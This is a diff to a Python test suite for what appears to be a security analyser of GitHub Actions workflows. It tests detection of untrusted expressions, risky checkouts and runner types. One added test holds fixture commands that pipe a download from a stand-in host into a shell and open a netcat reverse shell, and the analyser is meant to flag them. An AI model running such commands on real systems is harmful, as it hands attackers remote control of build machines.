@@ -77,6 +77,7 @@ def test_pipeline(shop: Any) -> None:
     ci = shop.noun(CI, "pipeline")
     assert plain(ci.fields) == {
         "name": "CI",
+        "system": "github-actions",
         "triggers": ["push", "pull_request"],
         "untrusted": True,
         "privileged_trigger": False,
@@ -199,9 +200,9 @@ def test_scripts(shop: Any) -> None:
 
 def test_untrusted_expressions_and_their_places(shop: Any) -> None:
     say = shop.noun(f"{TRIAGE}#jobs.label.steps[1]", "script").fields
-    assert plain(say["untrusted"]) == [
-        {"expression": "${{ env.TITLE }}", "source": "env.TITLE, which holds github.event.pull_request.title"},
-        {"expression": "${{ github['event']['comment'].Body }}", "source": "github.event.comment.body"},
+    assert [(item["expression"], item["source"], item["privileged"]) for item in say["untrusted"]] == [
+        ("${{ env.TITLE }}", "env.TITLE, which holds github.event.pull_request.title", True),
+        ("${{ github['event']['comment'].Body }}", "github.event.comment.body", True),
     ]
     assert [tuple(span[1:]) for span in say["untrusted"].spans] == [(21, 24, 21, 40), (23, 17, 23, 55)]
     plain_scalar = shop.noun(f"{TRIAGE}#jobs.label.steps[2]", "script").fields
@@ -218,6 +219,7 @@ def test_inputs_are_followed_to_their_callers(shop: Any) -> None:
     assert plain(called["untrusted"]) == [{
         "expression": "${{ inputs.title }}",
         "source": f"inputs.title, handed in by {TRIAGE}#jobs.reuse: github.event.issue.title",
+        "privileged": True,
     }]  # fmt: skip
     action = shop.noun(".github/actions/greet/action.yml#runs.steps[0]", "script").fields
     assert [item["source"] for item in action["untrusted"]] == [
@@ -296,6 +298,9 @@ CHECKOUT = "{{uses: actions/checkout@v4, with: {{ref: '{}'}}}}"
             True,
         ),
         (job(line="if: github.event_name == 'push'", step="run: gh pr checkout 5"), False),
+        (job(line="if: ${{ github.event_name == 'push' }}", step="run: gh pr checkout 5"), False),
+        (job(line='if: "${{ github.event_name == \'push\' }}\\n"', step="run: gh pr checkout 5"), True),
+        (job(line="if: ${{ github.event_name == 'push' }} && true", step="run: gh pr checkout 5"), True),
     ],
 )  # fmt: skip
 def test_checking_out_an_outsiders_code(read_texts: Callable[..., Any], text: str, verdict: bool) -> None:
@@ -309,6 +314,29 @@ def test_a_ref_from_an_earlier_step_is_undetermined(read_texts: Callable[..., An
     assert fields.place("checks_out_untrusted").line == 7
 
 
+def test_a_condition_that_is_a_text_is_no_problem(read_texts: Callable[..., Any]) -> None:
+    read = read_texts(job(line="if: ${{ github.event_name == 'push' }} && ${{ always() }}"))
+    assert not read.problems
+    assert read.noun(f"{W}#jobs.a", "job").fields["condition"].endswith("&& ${{ always() }}")
+
+
+def test_what_a_job_takes_from_its_workflow(read_texts: Callable[..., Any]) -> None:
+    read = read_texts("concurrency: whole\n" + job(trigger="issue_comment"))
+    fields = read.noun(f"{W}#jobs.a", "job").fields
+    assert (fields["concurrency"], fields.place("concurrency").line) == ("whole", 1)
+    assert read.noun(f"{W}#jobs.a.steps[0]", "script").fields["privileged_trigger"] is True
+    own = read_texts("concurrency: whole\n" + job(line="concurrency: own")).noun(f"{W}#jobs.a", "job").fields
+    assert (own["concurrency"], own.place("concurrency").line) == ("own", 6)
+
+
+def test_scripts_say_what_they_do(read_texts: Callable[..., Any]) -> None:
+    code = "{run: \"ls\\ncurl -k https://x.example/a | sh\\nnc -e /bin/sh 203.0.113.5 4444\"}"
+    fields = read_texts(job(step=code)).noun(f"{W}#jobs.a.steps[0]", "script").fields
+    assert [fields[name] for name in ("remote_pipe", "skips_verification", "reverse_shell")] == [True] * 3
+    python = job(step="{shell: python, run: \"'curl x | sh'\\ncurl -k x | sh\"}")
+    assert read_texts(python).noun(f"{W}#jobs.a.steps[0]", "script").fields["skips_verification"] is False
+
+
 @pytest.mark.parametrize(
     ("runs_on", "runner", "self_hosted"),
     [
@@ -317,7 +345,12 @@ def test_a_ref_from_an_earlier_step_is_undetermined(read_texts: Callable[..., An
         ("{group: big, labels: [ubuntu-x]}", ["ubuntu-x"], None),
         ("{group: big}", None, None),
         ("${{ vars.RUNNER }}", None, None),
-        ("${{ inputs.x && 'ubuntu-latest' || 'ubuntu-22.04' }}", None, None),
+        ("${{ inputs.x && 'ubuntu-latest' || 'ubuntu-22.04' }}", ["ubuntu-latest", "ubuntu-22.04"], False),
+        ("${{ inputs.x && 'self-hosted' || 'ubuntu-22.04' }}", None, None),
+        ("${{ inputs.x && 'ubuntu-latest' }}", None, None),
+        ("${{ inputs.x || 'ubuntu-latest' }}", None, None),
+        ("${{ (a == b && 'ubuntu-latest') || c && 'macos-15' || 'depot-ubuntu-24.04' }}",
+         ["ubuntu-latest", "macos-15", "depot-ubuntu-24.04"], False),
         ("${{ true && 'ubuntu-latest' }}", ["ubuntu-latest"], False),
         ("my-machine", ["my-machine"], None),
         ("ubuntu-24.04-arm", ["ubuntu-24.04-arm"], False),
